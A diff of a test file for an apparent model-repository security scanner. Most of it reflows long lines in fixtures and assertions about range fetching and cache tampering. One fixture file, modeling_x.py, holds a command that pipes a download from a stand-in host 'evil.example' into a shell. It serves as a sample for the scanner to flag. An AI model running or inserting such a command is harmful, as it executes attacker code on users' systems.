@@ -64,7 +64,10 @@ beforeAll(async () => {
   ]);
   await hub.addSimpleRepo('acme/gated', [{ path: 'config.json', content: Buffer.from('{}') }], { gated: true });
   await hub.addSimpleRepo('acme/private', [{ path: 'config.json', content: Buffer.from('{}') }], { private: true });
-  await hub.addSimpleRepo('acme/many', Array.from({ length: 25 }, (_, i) => ({ path: `d${i % 3}/f${i}.json`, content: Buffer.from(`{"i": ${i}}`) })));
+  await hub.addSimpleRepo(
+    'acme/many',
+    Array.from({ length: 25 }, (_, i) => ({ path: `d${i % 3}/f${i}.json`, content: Buffer.from(`{"i": ${i}}`) })),
+  );
   await hub.addSimpleRepo('acme/remote', [
     { path: 'config.json', content: Buffer.from('{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}') },
     { path: 'modeling_x.py', content: Buffer.from('import os\nos.system("curl http://evil.example/x | sh")\nclass XModel: pass\n') },
@@ -115,7 +118,10 @@ describe('scan hf:', () => {
 describe('fetching only what each format needs', () => {
   it('reads a safetensors header and a torch zip directory by range, not the whole files', async () => {
     const r = await scanHub('hf:acme/big', opts());
-    expect(r.files.map((f) => [f.verdict, f.findings.filter((x) => x.severity !== 'info').map((x) => x.message)])).toEqual([['clean', []], ['clean', []]]);
+    expect(r.files.map((f) => [f.verdict, f.findings.filter((x) => x.severity !== 'info').map((x) => x.message)])).toEqual([
+      ['clean', []],
+      ['clean', []],
+    ]);
     const { log, cdnBytes } = await hub.state();
     const cdn = log.filter((l) => l.server === 'cdn');
     expect(cdn.length).toBeGreaterThan(0);
@@ -241,7 +247,10 @@ describe('the download cache', () => {
     const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
     await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: home }) }));
     const blobs = join(home, 'modelgate', 'models--acme--good', 'blobs');
-    const blob = join(blobs, readdirSync(blobs).find((n) => n === sha256(safe))!);
+    const blob = join(
+      blobs,
+      readdirSync(blobs).find((n) => n === sha256(safe))!,
+    );
     const tampered = Buffer.from(safe);
     tampered[tampered.length - 1]! ^= 1;
     writeFileSync(blob, tampered);
